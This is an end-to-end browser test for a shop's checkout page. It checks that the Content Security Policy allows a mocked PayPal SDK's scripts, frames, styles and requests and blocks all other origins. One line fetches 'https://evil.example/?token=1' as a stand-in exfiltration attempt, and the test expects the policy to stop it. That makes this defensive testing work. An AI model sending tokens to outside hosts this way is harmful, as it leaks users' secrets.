import { expect, it } from 'vitest';
import { expectText, placeOrder, reachPlaceOrder, setStage } from '../../support/browser/journey.ts';

/** A shop with PayPal itself, whose responses are faked: only the browser's policy is tested. */
const stage = setStage({
  PAYPAL_ENVIRONMENT: 'sandbox',
  PAYPAL_CLIENT_ID: 'client',
  PAYPAL_CLIENT_SECRET: 'secret',
  PAYPAL_API_URL: 'http://127.0.0.1:9',
});

/** Does what the real script does: passes its nonce on, loads more scripts, opens frames, fetches, inserts markup. */
const SDK = `(function () {
  var nonce = document.currentScript.getAttribute('data-csp-nonce');
  function Buttons() {
    return {
      isEligible: function () { return true; },
      close: function () { return Promise.resolve(); },
      updateProps: function () { return Promise.resolve(); },
      render: function (container) {
        var more = document.createElement('script');
        more.src = 'https://www.paypalobjects.com/more.js';
        document.body.append(more);
        var style = document.createElement('style');
        style.setAttribute('nonce', nonce);
        style.textContent = '#drawn { color: rgb(1, 2, 3) }';
        document.head.append(style);
        container.innerHTML = '<p id="drawn" style="margin: 0">Buttons of PayPal</p>';
        var frame = document.createElement('iframe');
        frame.src = 'https://www.sandbox.paypal.com/smart/buttons';
        container.append(frame);
        return fetch('https://www.sandbox.paypal.com/xoplatform/logger').then(function () {});
      }
    };
  }
  window.paypal = { version: '5', Buttons: Buttons, FUNDING: {}, getFundingSources: function () { return []; } };
})();`;

it('allows PayPal’s own script what it needs, and no other script', async () => {
  const visit = await stage.visit('desktop');
  const { page, context } = visit;
  const asked = new Set<string>();
  await context.route(/^https:/, async (route) => {
    const url = new URL(route.request().url());
    asked.add(`${url.origin}${url.pathname}`);
    const isScript = url.pathname.endsWith('js');
    await route.fulfill({
      contentType: isScript ? 'text/javascript' : 'text/html',
      headers: { 'access-control-allow-origin': '*' },
      body: url.pathname === '/sdk/js' ? SDK : isScript ? 'window.more = true' : '<p>Frame</p>',
    });
  });
  await reachPlaceOrder(page, 6);
  await placeOrder(page);
  await expectText(page, 'Buttons of PayPal');
  await page.waitForFunction(() => 'more' in window);
  await page.frameLocator('iframe').getByText('Frame').waitFor();
  const drawn = page.locator('#drawn');
  expect(await drawn.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
  await expect
    .poll(() => [...asked].toSorted())
    .toEqual([
      'https://www.paypalobjects.com/more.js',
      'https://www.sandbox.paypal.com/sdk/js',
      'https://www.sandbox.paypal.com/smart/buttons',
      'https://www.sandbox.paypal.com/xoplatform/logger',
    ]);
  visit.expectNoConsoleErrors();
  const sent = await page.evaluate(async () => {
    try {
      await fetch('https://evil.example/?token=1', { mode: 'no-cors' });
      return true;
    } catch {
      return false;
    }
  });
  expect([sent, [...asked].filter((address) => address.includes('evil'))]).toEqual([false, []]);
  await expect.poll(visit.violations).toHaveLength(1);
  visit.allowConsoleError(/./);
  await expect(visit.close()).rejects.toThrow('connect-src kept out https://evil.example');
});
